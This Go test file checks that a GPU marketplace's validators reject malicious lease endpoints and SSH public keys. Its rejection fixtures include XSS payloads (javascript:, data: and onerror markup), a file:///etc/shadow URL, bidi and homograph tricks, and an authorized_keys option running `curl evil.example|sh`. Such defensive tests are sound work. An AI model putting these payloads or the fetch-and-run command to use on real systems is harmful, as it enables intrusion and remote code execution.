package types_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/gpumesh/gpumesh/testutil/fixtures"
	"github.com/gpumesh/gpumesh/x/market/types"
)

// An access endpoint a console renders as a link: script URLs, markup,
// control and bidi characters and oversize values are refused by
// MsgSetLeaseAccess with the field and the value in the error.
func TestEndpointRejected(t *testing.T) {
	tests := []struct{ name, endpoint, text string }{
		{"javascript", "javascript:alert(1)", `endpoint "javascript:alert(1)": scheme "javascript" is never allowed`},
		{"javascript mixed case", "JaVaScRiPt:alert(document.cookie)", `scheme "javascript" is never allowed`},
		{"javascript with a host", "javascript://gpu.example/%0aalert(1)", `scheme "javascript" is never allowed`},
		{"data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", `scheme "data" is never allowed`},
		{"data markup", "data:text/html,<script>alert(1)</script>", `contains '<'`},
		{"vbscript", "vbscript:msgbox(1)", `scheme "vbscript" is never allowed`},
		{"file", "file:///etc/shadow", `scheme "file" is never allowed`},
		{"leading space", " ssh://u@gpu.example:22", `endpoint " ssh://u@gpu.example:22": contains ' '`},
		{"leading control", "\x01ssh://u@gpu.example:22", "contains U+0001"},
		{"NUL", "ssh://u@gpu.example\x00:22", "contains U+0000"},
		{"bidi override", "ssh://u@gpu.example/\u202e", "contains U+202E"},
		{"homograph", "https://gpu.ex\u0430mple", "contains U+0430"},
		{"invalid UTF-8", "ssh://u@gpu.example/\xc0", "not valid UTF-8"},
		{"markup", "https://gpu.example/<img src=x onerror=alert(1)>", `contains '<'`},
		{"attribute break", `https://gpu.example/" onclick="alert(1)`, `contains '"'`},
		{"upper-case scheme", "SSH://u@gpu.example:22", `scheme "SSH" must be lowercase`},
		{"no scheme", "u@gpu.example:22", "must be absolute"},
		{"opaque", "ssh:u@gpu.example", "must name a host"},
		{"no host", "ssh://u@:22", "must name a host"},
		{"password", "ssh://u:hunter2@gpu.example:22", "must not carry a password"},
		{"10 kB", "https://gpu.example/" + strings.Repeat("a", 10_000), "must be 1-512 bytes"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			err := (&types.MsgSetLeaseAccess{Provider: provider, LeaseId: orderID, Endpoint: tc.endpoint}).ValidateBasic()
			require.ErrorIs(t, err, types.ErrInvalidEndpoint)
			require.ErrorContains(t, err, "endpoint ")
			require.ErrorContains(t, err, tc.text)
		})
	}
}

// The endpoints the sidecar's hooks print are accepted.
func TestEndpointAccepted(t *testing.T) {
	for _, e := range []string{"ssh://ubuntu@203.0.113.7:2222", "ssh://lease1@127.0.0.1:2222", "ssh://gpumesh@gpu1.example.com:49153",
		"https://jupyter.example.com/?token=x", "ssh://[2001:db8::7]:22"} {
		require.NoError(t, types.ValidateEndpoint(e), e)
	}
}

// An order's SSH key is one authorized_keys line a console shows and a
// hook writes into a file: a known type, a base64 body that encodes that
// type, a comment without control, bidi or markup characters.
func TestSSHPubkeyRejected(t *testing.T) {
	good := fixtures.SSHPubkey("ssh-ed25519", "alice", "")
	tests := []struct{ name, key, text string }{
		{"no type", "AAAAC3NzaC1lZDI1NTE5", `ssh_pubkey "AAAAC3NzaC1lZDI1NTE5": key type "AAAAC3NzaC1lZDI1NTE5" is not one of`},
		{"unknown type", "ssh-foo " + strings.Fields(good)[1], `key type "ssh-foo" is not one of`},
		{"dsa", fixtures.SSHPubkey("ssh-dss", "alice", ""), `key type "ssh-dss" is not one of`},
		{"authorized_keys options", `command="curl evil.example|sh" ` + good, `key type "command=\"curl`},
		{"body not base64", "ssh-ed25519 AAAA!!!! alice@laptop", "body is not base64"},
		{"body unpadded", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGk6oWl0dGxlIGtleQ alice@laptop", "body is not base64"},
		{"body of another type", "ssh-rsa " + strings.Fields(good)[1], `body encodes a "ssh-ed25519" key, not "ssh-rsa"`},
		{"body too short", "ssh-ed25519 AAAA", "body encodes no key type"},
		{"no body", "ssh-ed25519", "has no base64 body"},
		{"two spaces", "ssh-ed25519  " + strings.Fields(good)[1], "has no base64 body"},
		{"second line", good + "\nssh-rsa AAAA", "contains U+000A"},
		{"carriage return", good + " alice\r", "contains U+000D"},
		{"comment script", good + " <script>alert(1)</script>", `comment "<script>alert(1)</script>": contains '<'`},
		{"comment attribute break", good + ` a" onmouseover="x`, `contains '"'`},
		{"comment bidi override", good + " alice\u202e@laptop", "contains U+202E"},
		{"comment NUL", good + " alice\x00", "contains U+0000"},
		{"comment invalid UTF-8", good + " alice\xff", "not valid UTF-8"},
		{"trailing space", good + " ", "leading or trailing space"},
		{"10 kB", good + " " + strings.Repeat("a", 10_000), "bytes, at most 8192"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			m := validOrder()
			m.SshPubkey = tc.key
			err := m.ValidateBasic()
			require.ErrorIs(t, err, types.ErrInvalidOrder)
			require.ErrorContains(t, err, "ssh_pubkey ")
			require.ErrorContains(t, err, tc.text)
		})
	}
}

// Keys of every type OpenSSH generates today are accepted, with or without
// a comment.
func TestSSHPubkeyAccepted(t *testing.T) {
	for _, typ := range []string{"ssh-ed25519", "ssh-rsa", "ecdsa-sha2-nistp256", "ecdsa-sha2-nistp384", "ecdsa-sha2-nistp521",
		"sk-ssh-ed25519@openssh.com", "sk-ecdsa-sha2-nistp256@openssh.com"} {
		for _, comment := range []string{"", "alice@laptop", "Alice's key (work)", "ключ алисы"} {
			key := fixtures.SSHPubkey(typ, "alice", comment)
			require.NoError(t, types.ValidateSSHPubkey(key), key)
		}
	}
	require.NoError(t, types.ValidateSSHPubkey(""), "the key is optional")
}
